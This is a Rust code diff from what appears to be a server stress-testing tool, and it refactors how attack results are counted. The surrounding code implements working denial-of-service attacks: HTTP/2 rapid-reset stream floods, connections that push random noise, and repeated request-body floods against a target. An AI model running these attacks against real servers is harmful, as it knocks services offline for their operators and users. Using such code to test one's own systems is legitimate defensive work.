@@ -12,29 +12,29 @@ use crate::Failure;
 use crate::held::AbortOnDrop;
 use crate::http::Target;
 use crate::http::client::{Client, connect, of_modern_call};
-use crate::http::crowd::{Count, Siege, crowd};
+use crate::http::crowd::{Siege, Tally, crowd};
 use crate::messages;
 use crate::noise::noise;
 
 /// Opens streams of HTTP/2 and resets each before it is answered. A connection that the server ends is opened again.
 pub(super) async fn rapid_reset(target: Target) -> Result<Siege, Failure> {
     let body = messages::modern_call("reset", "add_numbers", &serde_json::json!({"a": 1, "b": 2}));
-    let attacker = |_| {
+    let attacker = |_, tally: Tally| {
         let (target, body) = (target.clone(), Bytes::from(body.clone()));
         async move {
-            let mut count = Count::default();
             while Instant::now() < target.until {
-                let opened = timeout_at(target.until, resets(&target, &body, &mut count)).await;
-                count.add(matches!(opened, Ok(Ok(()))));
+                if let Ok(Err(_)) = timeout_at(target.until, resets(&target, &body, &tally)).await {
+                    tally.add(false);
+                }
             }
-            Ok((count, ()))
+            Ok(())
         }
     };
     Ok(crowd(4, target.until, attacker).await)
 }
 
 /// Resets streams on one connection until it ends, or the attack.
-async fn resets(target: &Target, body: &Bytes, count: &mut Count) -> Result<(), Failure> {
+async fn resets(target: &Target, body: &Bytes, tally: &Tally) -> Result<(), Failure> {
     let stream = TokioIo::new(connect(target).await?);
     let (mut sender, connection) = http2::handshake(TokioExecutor::new(), stream).await?;
     let _task = AbortOnDrop(tokio::spawn(async move { _ = connection.await }));
@@ -49,7 +49,7 @@ async fn resets(target: &Target, body: &Bytes, count: &mut Count) -> Result<(), 
         let response = sender.send_request(request.body(Full::new(body.clone()))?);
         // Just long enough for the connection to send it.
         _ = timeout(Duration::from_micros(50), response).await;
-        count.add(true);
+        tally.add(true);
     }
     Ok(())
 }
@@ -69,14 +69,15 @@ pub(super) async fn deep_nesting(target: Target) -> Result<Siege, Failure> {
 pub(super) async fn noise_everywhere(target: Target) -> Result<Siege, Failure> {
     let body = Bytes::from(noise(1 << 20));
     let mut siege = bodies(&target, body.clone(), 30).await;
-    let attacker = |number: usize| {
+    let attacker = |number: usize, tally: Tally| {
         let (target, noise) = (target.clone(), body.slice(number * 1000..));
         async move {
             let mut stream = connect(&target).await?;
             stream.write_all(&noise).await?;
             let mut answer = Vec::new();
             let read = timeout(Duration::from_millis(200), stream.read_to_end(&mut answer)).await;
-            Ok((Count::of(read.is_err()), stream))
+            tally.add(read.is_err());
+            Ok(stream)
         }
     };
     let without_http = crowd(50, target.until, attacker).await;
@@ -88,16 +89,15 @@ pub(super) async fn noise_everywhere(target: Target) -> Result<Siege, Failure> {
 
 /// Sends the same body again and again on so many connections, until the attack ends.
 async fn bodies(target: &Target, body: Bytes, connections: usize) -> Siege {
-    let attacker = |_| {
+    let attacker = |_, tally: Tally| {
         let (target, body) = (target.clone(), body.clone());
         async move {
-            let mut count = Count::default();
-            while count.all() == 0 || Instant::now() < target.until {
+            while tally.all() == 0 || Instant::now() < target.until {
                 let mut client = Client::connect(&target).await?;
                 let answer = client.ask(&[], body.clone()).await;
-                count.add(answer.is_ok_and(|answer| answer.is_served()));
+                tally.add(answer.is_ok_and(|answer| answer.is_served()));
             }
-            Ok((count, ()))
+            Ok(())
         }
     };
     crowd(connections, target.until, attacker).await
